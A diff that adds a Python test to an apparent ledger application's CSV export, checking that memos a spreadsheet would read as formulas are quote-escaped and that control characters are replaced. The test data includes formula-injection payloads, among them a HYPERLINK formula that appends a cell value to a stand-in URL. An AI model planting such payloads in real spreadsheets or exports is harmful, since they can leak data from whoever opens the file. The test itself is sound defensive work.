@@ -407,3 +407,24 @@ def test_export_command_refuses_an_unknown_bank_and_writes_no_file(session, vill
     assert result.exit_code == 1
     assert "找不到该银行" in result.stderr
     assert not path.exists()
+
+
+def test_csv_quotes_text_a_spreadsheet_would_take_for_a_formula_and_keeps_numbers(session, make, clock,
+                                                                                  tmp_path, backend):
+    bank = make.bank()
+    memos = ['=HYPERLINK("http://x"&A1,"y")', "+1", "-2", "@SUM(A1)", "\t=1", "坏\x01字"]
+    if backend["name"] == "sqlite":
+        memos.append("空\x00字")
+    src = accounts.system_account(session, bank.id, CNY, "source:town")
+    dst = accounts.system_account(session, bank.id, CNY, "fund")
+    post(session, bank.id, [Draft(CNY, src.id, dst.id, 100, "grant", date(2026, 10, 1), memo=m) for m in memos],
+         by="test", clock=clock)
+    session.commit()
+    path = tmp_path / "hp.csv"
+    with open(path, "w", encoding="utf-8", newline="") as out:
+        write_csv(session, bank, out)
+    rows = _read_csv(path)
+    written = [r["memo"] for r in rows if r["memo"]]
+    expected = ["'" + m for m in memos[:5]] + ["坏\ufffd字"] + (["空\ufffd字"] if len(memos) > 6 else [])
+    assert written == expected
+    assert all(r["amount"] == "100" for r in rows)
